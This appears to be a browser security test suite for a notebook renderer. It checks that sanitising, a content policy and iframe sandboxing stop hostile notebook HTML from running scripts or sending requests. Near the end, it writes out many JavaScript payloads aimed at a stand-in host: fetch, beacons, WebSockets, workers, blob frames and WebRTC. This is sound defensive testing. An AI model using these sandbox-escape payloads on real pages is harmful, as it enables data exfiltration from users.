"""
Hostile notebooks in a real browser: no script runs, no request leaves.

Each fence is tested by itself, with the others taken away: what sanitising leaves, and what the policy and the frame stop. A control shows that a
script which does run, and a request which does leave, would have been seen.
"""

from __future__ import annotations

import contextlib
import json
import re
import socket
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any
from urllib.parse import unquote, urlsplit

import pytest
from browser import (
    NO_ALLOWLIST,
    chromium,
    keeps_off_network,
    serving,
    skip_where_scripts_reach_a_network,
    started,
    tab,
)
from hostile import MARKUP, NOTEBOOKS, RUN
from hostile_comparisons import compared_documents

from airflow_nbjobs.ui.notebook.renderer import Renderer, RenderRequest
from airflow_nbjobs.ui.pages import NO_CONNECTIONS, NOTEBOOK_POLICY, SCRIPTED_POLICY
from airflow_nbjobs.ui.rendering import LINK_MARK, THEME_MARK

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

PlaywrightError = pytest.importorskip("playwright.sync_api", reason="needs the extra browser").Error

pytestmark = [pytest.mark.slow, pytest.mark.browser]

GROUP = 15
# Too much of it, not too clever: refused in words.
MAY_BE_REFUSED = {"html-deep", "nested-quotes"}


class Documents:
    """A server of documents by name, and the sentinel: whatever it is asked for beyond them has left a page."""

    def __init__(self) -> None:
        self.documents: dict[str, tuple[str, dict[str, str]]] = {}
        self.left: list[str] = []
        owner = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                name = unquote(urlsplit(self.path).path).removeprefix("/")
                if self.headers["Host"].startswith("sentinel.invalid") or name not in owner.documents:
                    owner.left.append(f"{self.headers['Host']}{self.path}")
                    self.send_response(204)
                    self.end_headers()
                    return
                text, headers = owner.documents[name]
                body = text.encode("utf-8", "replace")
                self.send_response(200)
                for header, value in (
                    {"Content-Type": "text/html; charset=utf-8", "Content-Length": str(len(body))} | headers
                ).items():
                    self.send_header(header, value)
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET  # noqa: N815 - the base class's name

            def log_message(self, *args: Any) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self._server.server_address[1]
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture(scope="module")
def server() -> Iterator[Documents]:
    documents = Documents()
    yield documents
    documents.close()


@pytest.fixture(scope="module")
def browser(server: Documents) -> Iterator[Any]:
    with chromium(f"--host-resolver-rules=MAP sentinel.invalid 127.0.0.1:{server.port}") as running:
        yield running


# The page's and the failed cell's own lines.
OF_THE_REPORT = re.compile(
    r'<body class="nb-report">|<header class="nb-head"><span class="nb-number">cell \d+</span><span class="nb-tag nb-error-tag">[a-z ]+</span></header>|</section>'
)


@pytest.fixture(scope="module")
def rendered(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """Return each hostile notebook's document by name."""
    folder: Path = tmp_path_factory.mktemp("hostile")
    renderer, documents, failed, strange = Renderer(), {}, {}, {}
    try:
        for name, text in NOTEBOOKS.items():
            source = folder / "source"
            source.write_text(text)
            outcome = renderer.render(RenderRequest(source=source, folder=folder, title=name))
            if outcome.status == "ok":
                documents[name] = (folder / "document.html").read_text()
                added = set((folder / "report.html").read_text().splitlines()) - {"", *documents[name].splitlines()}
                strange[name] = [line for line in added if not OF_THE_REPORT.fullmatch(line)]
            else:
                failed[name] = outcome
    finally:
        renderer.close()
    assert set(failed) <= MAY_BE_REFUSED, failed
    # What is shown of the notebook is shown of the report: it is less of the same.
    assert {name: lines for name, lines in strange.items() if lines} == {}
    return documents


@pytest.fixture(scope="module")
def compared(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """Return the comparison of each hostile notebook with the next one, so that each is on either side, by their names."""
    return compared_documents(tmp_path_factory.mktemp("compared"), may_be_refused=MAY_BE_REFUSED)


def shown(
    browser: Any,
    server: Documents,
    documents: dict[str, str],
    *,
    headers: dict[str, str],
    sandbox: bool | str,
    outer: dict[str, str] | None = None,
) -> dict[str, Any]:
    """Show documents in frames, a few at a time; return what ran, what left and where frames went."""
    server.left.clear()
    ran: list[str] = []
    strayed: list[str] = []
    names = sorted(documents)
    attribute = f"sandbox='{sandbox if isinstance(sandbox, str) else ''}'" if sandbox else ""
    for start in range(0, len(names), GROUP):
        group = names[start : start + GROUP]
        # A name in the address must not be one that the sentinel would count.
        server.documents = {f"d{start + place}": (documents[name], headers) for place, name in enumerate(group)}
        frames = "".join(f'<iframe {attribute} src="/{each}"></iframe>' for each in server.documents)
        server.documents |= {
            "page": (
                f"<!doctype html><link rel=icon href='data:,'><script>window.messages=[];onmessage=(e)=>messages.push(String(e.data))</script>{frames}",
                outer or {},
            ),
            "favicon.ico": ("", {}),
        }
        context = browser.new_context()
        page = context.new_page()
        page.goto(f"http://127.0.0.1:{server.port}/page", wait_until="load")
        # Three frames of animation after every document has loaded: focus, toggle, animation and refresh events have come by then.
        page.evaluate(
            "() => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(() => requestAnimationFrame(done))))"
        )
        ran += [f"{message} in one of {group}" for message in page.evaluate("messages")]
        for place, frame in enumerate(page.main_frame.child_frames[: len(group)]):
            if not re.fullmatch(rf"http://127\.0\.0\.1:{server.port}/d\d+", frame.url):
                strayed.append(f"{group[place]} -> {frame.url}")
        assert page.url.endswith("/page")
        context.close()
    return {"ran": ran, "left": list(server.left), "strayed": strayed}


def themed(text: str, theme: str) -> str:
    return text.replace(THEME_MARK, theme).replace(LINK_MARK, "/link.html")


NOTHING = {"ran": [], "left": [], "strayed": []}


def raw(text: str) -> str:
    return f"<!doctype html><html><body>{text}</body></html>"


def test_there_are_enough_of_them():
    assert len(NOTEBOOKS) >= 60


def test_the_control_runs_and_leaves(server, browser):
    """Without any fence both are seen; if not, the tests below would mean nothing."""
    seen = shown(
        browser,
        server,
        {"control": raw(MARKUP["script"] + MARKUP["img-src"] + MARKUP["style-import"])},
        headers={},
        sandbox=False,
    )
    assert len(seen["ran"]) == 1
    assert {"sentinel.invalid/ran", "sentinel.invalid/i.png", "sentinel.invalid/i.css"} <= set(seen["left"])


def test_most_of_the_corpus_is_dangerous_without_a_fence(server, browser):
    seen = shown(browser, server, {name: raw(text) for name, text in MARKUP.items()}, headers={}, sandbox=False)
    assert len(seen["left"]) >= 25, seen["left"]
    assert len(seen["ran"]) >= 10, seen["ran"]


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_sanitising_alone_leaves_nothing_that_runs_or_asks(server, browser, rendered, theme):
    """Without the policy, in a frame that may do everything."""
    meta = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')
    documents = {name: meta.sub("", themed(text, theme), count=1) for name, text in rendered.items()}
    assert all(documents[name] != rendered[name] for name in rendered)
    assert shown(browser, server, documents, headers={}, sandbox=False) == NOTHING


def test_the_policy_alone_stops_what_was_never_sanitised(server, browser):
    """The notebook's own markup, word for word, in a frame without any attribute."""
    documents = {name: raw(text) for name, text in MARKUP.items()}
    seen = shown(browser, server, documents, headers={"Content-Security-Policy": NOTEBOOK_POLICY}, sandbox=False)
    # A refresh moves the frame itself: that is the outer page's to forbid (`frame-src 'self'`), see below.
    assert [each for each in seen["left"] if not each.endswith("/meta")] == []
    assert seen["ran"] == []


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_all_fences_together(server, browser, rendered, theme):
    headers = {"Content-Security-Policy": NOTEBOOK_POLICY}
    documents = {name: themed(text, theme) for name, text in rendered.items()}
    assert shown(browser, server, documents, headers=headers, sandbox=True) == NOTHING


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_a_comparison_leaves_nothing_that_runs_or_asks_and_is_fenced_as_a_notebook_is(server, browser, compared, theme):
    meta = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')
    documents = {name: meta.sub("", themed(text, theme), count=1) for name, text in compared.items()}
    assert len(documents) >= len(NOTEBOOKS) - 2 * len(MAY_BE_REFUSED)
    assert shown(browser, server, documents, headers={}, sandbox=False) == NOTHING
    fenced = {name: themed(text, theme) for name, text in compared.items()}
    headers = {"Content-Security-Policy": NOTEBOOK_POLICY}
    assert shown(browser, server, fenced, headers=headers, sandbox=True) == NOTHING


# What an output may not do to the page around it, told by a browser that has laid it out.
_OUTSIDE_ITS_BOX = """() => {
  const found = [];
  for (const cell of document.querySelectorAll("main > .nb-cell")) {
    if (getComputedStyle(cell).display === "none") found.push("a cell is hidden");
  }
  for (const box of document.querySelectorAll(".nb-html")) {
    if (box.closest(".nb-html") !== box) continue;
    const {left, top, right, bottom} = box.getBoundingClientRect();
    for (const [x, y] of [[left + 5, top - 5], [left + 5, bottom + 5], [innerWidth / 2, 4], [2, innerHeight / 2]]) {
      const there = document.elementFromPoint(x, y);
      if (there && there !== box && box.contains(there)) found.push(`${there.outerHTML.slice(0, 80)} at ${x},${y}`);
    }
  }
  for (const name of ["cell-0", "cell-1"]) {
    const place = document.getElementById(name);
    if (place && !place.matches("main > section.nb-cell")) found.push(`${name} is not ours`);
  }
  if ([...document.querySelectorAll(".nb-html [class*=nb-]")].some((each) => !each.matches(".nb-address, .nb-formula, .nb-left-out, .nb-tex"))) found.push("our class");
  return found;
}"""


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_no_output_is_seen_beside_its_own_box_or_taken_for_ours(browser, rendered, theme):
    page = browser.new_page()
    seen = {}
    for name, text in rendered.items():
        if name.startswith(("html-style", "html-clobber", "html-svg", "html-math", "html-attribute", "widgets-html")):
            page.set_content(themed(text, theme))
            seen[name] = page.evaluate(_OUTSIDE_ITS_BOX)
    page.close()
    assert len(seen) >= 25
    assert {name: found for name, found in seen.items() if found} == {}


def test_a_document_that_was_downloaded_runs_nothing_either(server, browser, rendered):
    """Opened from a disk there is no header: the policy stands in the document as well."""
    policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', rendered["html-script"])
    assert policy is not None
    poisoned = {
        "downloaded": rendered["html-script"].replace(
            "</main>", f"<script>{RUN}</script>{MARKUP['img-src']}{MARKUP['style-import']}</main>"
        )
    }
    assert shown(browser, server, poisoned, headers={}, sandbox=False) == NOTHING


# -- scripts that a reader has asked for: they run, and reach nothing ------------------------------------------------------


@pytest.fixture
def stun() -> Iterator[socket.socket]:
    """Where WebRTC would ask who it is: a packet that arrives has left the page, and the machine."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as listening:
        listening.bind(("127.0.0.1", 0))
        listening.settimeout(3)
        yield listening


def webrtc(stun: socket.socket) -> dict[str, str]:
    servers = f"{{iceServers: [{{urls: 'stun:127.0.0.1:{stun.getsockname()[1]}'}}]}}"
    script = f"const p = new RTCPeerConnection({servers}); p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o)); parent.postMessage('ran', '*')"
    nested = f"<script>const f = document.createElement('iframe'); f.srcdoc = `<script>{script}</` + `script>`; document.body.append(f)</script>"
    return {"webrtc": f"<script>{script}</script>", "webrtc-nested": nested}


def has_heard(stun: socket.socket) -> bool:
    try:
        return bool(stun.recv(100))
    except TimeoutError:
        return False


# A document within the document: it must not lose what fences its maker.
NESTED = "<script>parent.postMessage(`ran nested`, `*`); fetch(`http://sentinel.invalid/nested`, {mode: `no-cors`})</script><img src=http://sentinel.invalid/nested.png>"


def quoted(text: str) -> str:
    """Return the text as JavaScript in a page."""
    return json.dumps(text).replace("<", "\\u003c")


def blob(text: str, kind: str = "text/javascript") -> str:
    """Return JavaScript for the address of a blob with the text."""
    return f"URL.createObjectURL(new Blob([{quoted(text)}], {{type: '{kind}'}}))"


ASKING = {
    name: f"<script>{script}</script>"
    for name, script in {
        "fetch": "fetch('http://sentinel.invalid/fetch', {mode: 'no-cors'})",
        "beacon": "navigator.sendBeacon('http://sentinel.invalid/beacon', 'x')",
        "socket": "new WebSocket('ws://sentinel.invalid/socket')",
        "events": "new EventSource('http://sentinel.invalid/events')",
        "location": "location = 'http://sentinel.invalid/location'",
        "refresh": "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\"0;url=http://sentinel.invalid/refresh\">')",
        "form": "const f = document.createElement('form'); f.action = 'http://sentinel.invalid/form'; document.body.append(f); f.submit()",
        "open": "window.open('http://sentinel.invalid/open')",
        "top": "top.location = 'http://sentinel.invalid/top'",
        "preconnect": "document.head.insertAdjacentHTML('beforeend', '<link rel=preconnect href=http://sentinel.invalid/>')",
        "prefetch": "document.head.insertAdjacentHTML('beforeend', '<link rel=prefetch href=http://sentinel.invalid/prefetch>')",
        "speculation": "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({prefetch: [{source: 'list', urls: ['http://sentinel.invalid/speculation']}]}); document.head.append(s)",
        "worker": "new Worker(URL.createObjectURL(new Blob(['fetch(\"http://sentinel.invalid/worker\")'])))",
        "shared-worker": f"new SharedWorker({blob('fetch(`http://sentinel.invalid/shared`)')})",
        "import": "import('http://sentinel.invalid/import.js')",
        "blob-import": f"import({blob('import(`http://sentinel.invalid/nested.js`)')})",
        "blob-script": f"const s = document.createElement('script'); s.src = {blob('fetch(`http://sentinel.invalid/script`)')}; document.body.append(s)",
        "blob-frame": f"const f = document.createElement('iframe'); f.src = {blob(NESTED, 'text/html')}; document.body.append(f)",
        "blob-location": f"location = {blob(NESTED, 'text/html')}",
        "blob-open": f"window.open({blob(NESTED, 'text/html')})",
        "blob-object": f"const f = document.createElement('object'); f.data = {blob(NESTED, 'text/html')}; document.body.append(f)",
        "data-frame": f"const f = document.createElement('iframe'); f.src = {quoted('data:text/html,' + NESTED)}; document.body.append(f)",
        "airflow": "fetch('/page')",
    }.items()
}


def test_webrtc_gets_through_a_policy_of_content_alone(server, browser, stun):
    """The control, and the reason why scripts are offered only to a browser that knows Connection-Allowlist."""
    documents = {name: raw(text) for name, text in webrtc(stun).items()}
    headers = {"Content-Security-Policy": SCRIPTED_POLICY}
    assert shown(browser, server, documents, headers=headers, sandbox="allow-scripts")["ran"]
    assert has_heard(stun)


@pytest.mark.parametrize("arguments", [(), (NO_ALLOWLIST,)], ids=["as it is", "without the allowlist"])
def test_the_tab_offers_scripts_only_to_a_browser_that_keeps_them_off_the_network(browser, arguments):
    with started(browser.browser_type, *arguments) as running, serving(tab(scripted=1)) as url:
        page = running.new_page()
        page.goto(f"{url}/tab")
        page.locator("#scripts p", has_text="do not run").wait_for()
        assert page.locator("#scripts button").is_visible() is keeps_off_network(running)
        assert not (arguments and keeps_off_network(running))


def test_scripts_that_were_asked_for_run_and_reach_nothing(server, browser, stun):
    """Word for word, under the policy of the document with scripts, in our page's frame."""
    skip_where_scripts_reach_a_network(browser)
    fences: dict[str, Any] = {
        "headers": {"Content-Security-Policy": SCRIPTED_POLICY} | NO_CONNECTIONS,
        "sandbox": "allow-scripts",
        "outer": {"Content-Security-Policy": "frame-src 'self'"},
    }
    documents = {name: raw(text) for name, text in (MARKUP | ASKING | webrtc(stun)).items()}
    nested = documents.pop("webrtc-nested")
    seen = shown(browser, server, documents, **fences)
    assert len(seen["ran"]) >= 10
    assert seen["left"] == []
    # Chromium 156 ends the page's process rather than let this one through.
    with contextlib.suppress(PlaywrightError):
        assert shown(browser, server, {"webrtc-nested": nested}, **fences)["left"] == []
    assert not has_heard(stun)
